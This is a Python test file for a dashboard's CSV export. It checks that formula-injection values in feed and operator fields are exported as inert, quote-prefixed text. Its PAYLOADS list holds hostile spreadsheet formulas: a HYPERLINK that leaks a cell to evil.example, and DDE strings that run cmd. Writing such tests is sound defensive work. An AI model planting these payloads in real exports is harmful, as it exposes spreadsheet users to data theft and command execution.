"""CSV/formula injection: feed text that a spreadsheet program would run as a formula reaches
the dashboard's CSV export (the only export) as inert text.

The export is built by the Signalen page's own ``_export`` from rows read the way the page
reads them; hostile values sit in every text column a feed or an operator can fill."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import storage
from dashboard.components import FORMULA_PREFIXES, csv_cell, csv_text
from dashboard.pages.signalen import _export
from storage.read_models import signals
from storage.read_models.daily_counts import SignalFilter
from storage.schema import Classification, Item, ItemTopic, ModelVersion, PolicyTopic, Source, utcnow

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",  # full-width equals sign
]


def _formula_like(cell: str) -> bool:
    bare = cell.lstrip(" \u00a0\u3000" + "".join(chr(c) for c in range(0x20)))
    return bare.startswith(FORMULA_PREFIXES)


def seed_hostile(session) -> None:
    now = utcnow()
    model = ModelVersion(name="v1", base_model="e5", path="models/v1", threshold=0.5, status="active",
                         promoted_at=now - timedelta(days=3))
    session.add(model)
    for n, payload in enumerate(PAYLOADS):
        source = Source(url=f"https://bron{n}.example/rss", name=payload, language="nl")
        topic = PolicyTopic(slug=f"t{n}", name=payload, name_en=payload, ministry="X")
        session.add_all([source, topic])
        session.flush()
        item = Item(source_id=source.id, entry_key=f"e{n}", title=payload, summary=payload, language="nl",
                    content_hash=f"h{n}", url=f"https://bron{n}.example/{n}", collected_at=now - timedelta(hours=n + 1))
        session.add(item)
        session.flush()
        session.add(Classification(item_id=item.id, model_version_id=model.id, score=0.9, label="x", flagged=True,
                                   flag_reasons=["classifier"], evidence_text=payload, created_at=item.collected_at))
        session.add(ItemTopic(item_id=item.id, topic_id=topic.id, score=0.9))


@pytest.fixture
def export_text(app_env, db) -> str:
    from waakhond.context import AppContext
    from waakhond.settings import Settings

    with storage.transaction(db.sessions) as session:
        seed_hostile(session)
    today = utcnow().date()
    with db.read_sessions() as session:
        rows = signals.list_signals(session, SignalFilter(today - timedelta(days=7), today), limit=100)
    assert len(rows) == len(PAYLOADS)
    return _export(AppContext(Settings()), rows)


def test_every_cell_of_the_signals_export_is_inert(export_text):
    cells = [cell for row in csv.reader(io.StringIO(export_text)) for cell in row]
    assert not [c for c in cells if _formula_like(c)]
    # the text itself is kept, behind a quote mark, not dropped
    for payload in PAYLOADS:
        assert "'" + payload in cells


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n \u00a0\uff1d\uff0b\uff0d\uff20ab1(|!'\"")), max_size=12))
def test_no_cell_starts_as_a_formula(text):
    cell = csv_cell(text)
    assert not _formula_like(cell)
    assert cell in (text, "'" + text)
    [read] = list(csv.reader(io.StringIO(csv_text(["h"], [[text]])), strict=True))[1:]
    assert read == [cell]
